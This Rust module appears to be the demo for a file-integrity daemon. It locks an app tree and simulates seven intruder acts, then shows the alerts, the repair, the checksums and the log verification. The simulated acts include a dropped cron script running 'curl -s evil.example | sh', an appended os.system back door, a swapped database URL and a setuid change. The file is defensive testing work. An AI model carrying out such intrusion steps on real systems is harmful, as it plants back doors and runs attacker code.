//! The steps, each with its proof.

use std::io::{self, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use guard_api::method::{
    AcknowledgeAlert, Check, ExportBaseline, ListAlerts, Lock, Unlock, VerifyLog, Watch,
};
use guard_api::wire::{CheckResult, Finding, Record};
use guard_api::{Client, Exit, Method};

use super::{failed, tell, title};
use crate::Failure;

/// Every step in order.
pub(super) fn all(client: &mut Client, socket: &Path, app: &Path, dir: &Path) -> Result<(), Failure> {
    lock(client, "first release")?;
    let events = follow(socket)?;
    intrude(app, &events)?;
    look(client, app)?;
    unlock(client, app)?;
    lock(client, "fix released")?;
    expect(mode(&app.join("backend/app/main.py"))? == 0o444, "the tree is sealed again")?;
    sums(client, app, dir)?;
    ledger(client)
}

fn no(what: impl Into<String>) -> Failure {
    Failure::new(Exit::Failed, format!("did not happen: {}", what.into()))
}

fn expect(happened: bool, what: &str) -> Result<(), Failure> {
    if happened { Ok(()) } else { Err(no(what)) }
}

/// Calls a method that ends with a result, whatever progress comes before it.
fn last<M: Method>(client: &mut Client, method: &M) -> Result<M::Reply, Failure> {
    client.call(method).map_err(|e| failed(M::NAME, &e))
}

fn lock(client: &mut Client, reason: &str) -> Result<(), Failure> {
    title(&format!("guardctl lock demo --reason {reason:?}"));
    let asked = Lock { reason: Some(reason.to_owned()), ..Lock::default() };
    let locked = last(client, &asked)?.result.ok_or_else(|| no("a lock"))?;
    tell(&format!(
        "locked: baseline {}, {} files and {} directories, sealed {}, {} ms",
        locked.generation,
        locked.protected.files,
        locked.protected.directories,
        locked.seal.done,
        locked.duration_ms
    ));
    for s in &locked.skipped {
        tell(&format!("  {}: {}", s.path, s.why));
    }
    Ok(())
}

/// Follows the daemon's events on a connection of its own.
fn follow(socket: &Path) -> Result<Receiver<(Instant, Record)>, Failure> {
    let (sender, events) = channel();
    let (ready, is_ready) = channel();
    let mut client = Client::connect(socket).map_err(|e| failed("reach the daemon", &e))?;
    std::thread::spawn(move || {
        client.set_timeout(None);
        let Ok(replies) = client.call_more(&Watch::default()) else { return };
        for reply in replies.map_while(Result::ok) {
            if reply.head.is_some() && ready.send(()).is_err() {
                return;
            }
            if let Some(record) = reply.record {
                // The demonstration is over where nobody listens any more.
                if sender.send((Instant::now(), record)).is_err() {
                    return;
                }
            }
        }
    });
    is_ready.recv_timeout(Duration::from_secs(5)).map_err(|_| no("following the daemon's events"))?;
    Ok(events)
}

type Act = fn(&Path) -> io::Result<()>;

/// What an intruder with the owner's rights does, by the path it shows at.
const ACTS: [(&str, &str, Act); 7] = [
    ("appends a back door to backend/app/main.py", "backend/app/main.py", |app| {
        let path = app.join("backend/app/main.py");
        std::fs::set_permissions(&path, PermissionsExt::from_mode(0o644))?;
        let mut file = std::fs::OpenOptions::new().append(true).open(&path)?;
        file.write_all(b"import os; os.system('id')\n")
    }),
    ("reads the password, then swaps the database in .env.prod", ".env.prod", |app| {
        open(app)?;
        let new = app.join(".env.new");
        std::fs::write(&new, "DATABASE_URL=postgres://evil@elsewhere/shop\n")?;
        std::fs::rename(new, app.join(".env.prod"))
    }),
    ("drops a new script into scripts/", "scripts/cron.sh", |app| {
        open(&app.join("scripts"))?;
        std::fs::write(app.join("scripts/cron.sh"), "#!/bin/sh\ncurl -s evil.example | sh\n")
    }),
    ("makes scripts/deploy.sh setuid", "scripts/deploy.sh", |app| {
        std::fs::set_permissions(app.join("scripts/deploy.sh"), PermissionsExt::from_mode(0o4755))
    }),
    ("points compose.yml elsewhere", "compose.yml", |app| {
        std::fs::remove_file(app.join("compose.yml"))?;
        std::os::unix::fs::symlink("/tmp/evil.yml", app.join("compose.yml"))
    }),
    ("deletes a dependency of ten files", "frontend/node_modules/package-7", |app| {
        let modules = app.join("frontend/node_modules");
        open(&modules)?;
        open(&modules.join("package-7"))?;
        std::fs::remove_dir_all(modules.join("package-7"))
    }),
    ("hides a file in a new directory three levels deep", "backend/a/b/c/payload", |app| {
        open(&app.join("backend"))?;
        std::fs::create_dir_all(app.join("backend/a/b/c"))?;
        std::fs::write(app.join("backend/a/b/c/payload"), "x")
    }),
];

/// The owner of a sealed directory can open it again; that is an alert of its own.
fn open(dir: &Path) -> io::Result<()> {
    std::fs::set_permissions(dir, PermissionsExt::from_mode(0o755))
}

fn intrude(app: &Path, events: &Receiver<(Instant, Record)>) -> Result<(), Failure> {
    title("An intruder with the application's own rights");
    for (what, path, act) in ACTS {
        tell(&format!("\nintruder {what}"));
        act(app).map_err(|e| failed(what, &e))?;
        let done = Instant::now();
        wait_for(path, done, events)?;
    }
    tell("\napplication writes its log and an upload");
    let quiet = |e: io::Error| failed("write below logs/ and media/", &e);
    std::fs::write(app.join("logs/access.log"), "GET / 200\n").map_err(quiet)?;
    std::fs::write(app.join("media/photo.jpg"), [0xff, 0xd8]).map_err(quiet)?;
    std::thread::sleep(Duration::from_millis(500));
    let noise = events.try_iter().flat_map(|(_, r)| findings(&r));
    let noise: Vec<_> =
        noise.filter(|f| f.path.starts_with("logs/") || f.path.starts_with("media/")).collect();
    expect(noise.is_empty(), "silence about what the application may write")?;
    tell("  (no alert: both are `writable`)");
    Ok(())
}

fn findings(record: &Record) -> Vec<Finding> {
    let list = record.fields.get("findings").cloned().unwrap_or_default();
    serde_json::from_value(list).unwrap_or_default()
}

/// Prints alerts as they come until one is about `path`.
fn wait_for(path: &str, done: Instant, events: &Receiver<(Instant, Record)>) -> Result<(), Failure> {
    let deadline = done + Duration::from_secs(10);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        let (arrived, record) =
            events.recv_timeout(left).map_err(|_| no(format!("an alert about {path} within 10 s")))?;
        let found = findings(&record);
        let severity = record.fields.get("severity").and_then(|s| s.as_str()).unwrap_or("");
        for f in found.iter().take(3) {
            let words: Vec<&str> = f.change.iter().map(|c| c.word()).collect();
            let after = arrived.saturating_duration_since(done).as_secs_f64() * 1000.0;
            tell(&format!(
                "  ALERT {severity:8} {} ({})  {after:.1} ms after the change",
                f.path,
                words.join(", ")
            ));
        }
        if found.len() > 3 {
            tell(&format!("        and {} more findings in the same alert", found.len() - 3));
        }
        if found.iter().any(|f| f.path == path) {
            return Ok(());
        }
    }
}

fn check(client: &mut Client) -> Result<CheckResult, Failure> {
    last(client, &Check::default())?.result.ok_or_else(|| no("a check"))
}

fn look(client: &mut Client, app: &Path) -> Result<(), Failure> {
    title("guardctl check demo");
    let found = check(client)?;
    for f in found.findings.iter().take(12) {
        let words: Vec<&str> = f.change.iter().map(|c| c.word()).collect();
        tell(&format!("  {:38} {}", f.path, words.join(", ")));
    }
    tell(&format!(
        "  {} paths differ, {} files read again in {} ms",
        found.findings_total, found.files, found.duration_ms
    ));
    expect(
        !found.clean && found.findings_total >= ACTS.len() as u64,
        "finding every change by a full check",
    )?;

    title("guardctl alerts ack ID --note …");
    let alerts = last(client, &ListAlerts::default())?.alerts;
    expect(!alerts.is_empty(), "open alerts")?;
    for alert in &alerts {
        tell(&format!("  alert {}: {} ({} findings)", alert.id, alert.title, alert.findings_total));
        last(client, &AcknowledgeAlert { id: alert.id, note: "demonstration".to_owned() })?;
    }
    expect(last(client, &ListAlerts::default())?.alerts.is_empty(), "acknowledging every alert")?;
    expect(app.is_dir(), "the application staying where it is")
}

fn mode(path: &Path) -> Result<u32, Failure> {
    let meta = std::fs::symlink_metadata(path).map_err(|e| failed("look at a file", &e))?;
    Ok(meta.permissions().mode() & 0o7777)
}

fn unlock(client: &mut Client, app: &Path) -> Result<(), Failure> {
    title("guardctl unlock demo --maintainer ada --reason \"repair after the break-in\" --for 10m");
    let asked = Unlock {
        reason: "repair after the break-in".to_owned(),
        maintainer: "ada".to_owned(),
        for_seconds: Some(600),
        ..Unlock::default()
    };
    let done = last(client, &asked)?.result.ok_or_else(|| no("an unlock"))?;
    tell(&format!(
        "unlocked until {}: modes and flags of {} entries given back",
        done.window.until, done.restored
    ));
    expect(mode(&app.join("backend/app/orders.py"))? == 0o644, "the original modes coming back")?;
    let repair = |e: io::Error| failed("repair", &e);
    std::fs::write(app.join("backend/app/main.py"), "from . import orders\n").map_err(repair)?;
    std::fs::remove_file(app.join("scripts/cron.sh")).map_err(repair)?;
    std::fs::remove_dir_all(app.join("backend/a")).map_err(repair)?;
    std::fs::set_permissions(app.join("scripts/deploy.sh"), PermissionsExt::from_mode(0o755))
        .map_err(repair)?;
    tell("ada repairs what the intruder did");
    Ok(())
}

fn sums(client: &mut Client, app: &Path, dir: &Path) -> Result<(), Failure> {
    title("guardctl baseline export demo; sha256sum -c SHA256SUMS");
    let file = dir.join("SHA256SUMS");
    let mut text = Vec::new();
    let asked = ExportBaseline { file: Some("SHA256SUMS".to_owned()), ..ExportBaseline::default() };
    for part in client.call_more(&asked).map_err(|e| failed("export the baseline", &e))? {
        text.extend(part.map_err(|e| failed("export the baseline", &e))?.data);
    }
    let lines = text.iter().filter(|b| **b == b'\n').count();
    std::fs::write(&file, text).map_err(|e| failed("write SHA256SUMS", &e))?;
    let done = Command::new("sha256sum")
        .args(["--check", "--quiet", "--strict"])
        .arg(&file)
        .current_dir(app)
        .stdin(Stdio::null())
        .output()
        .map_err(|e| failed("run sha256sum", &e))?;
    tell(&String::from_utf8_lossy(&done.stdout));
    expect(done.status.success() && lines > 0, "sha256sum agreeing with the baseline")?;
    tell(&format!("{lines} files: OK, says the system's own sha256sum"));
    Ok(())
}

fn ledger(client: &mut Client) -> Result<(), Failure> {
    title("guardctl log verify");
    let verified = last(client, &VerifyLog {})?.result.ok_or_else(|| no("a verification"))?;
    tell(&format!("{} records, chain whole, head {}", verified.records, verified.head.hash));
    expect(verified.ok, "a ledger that verifies")
}
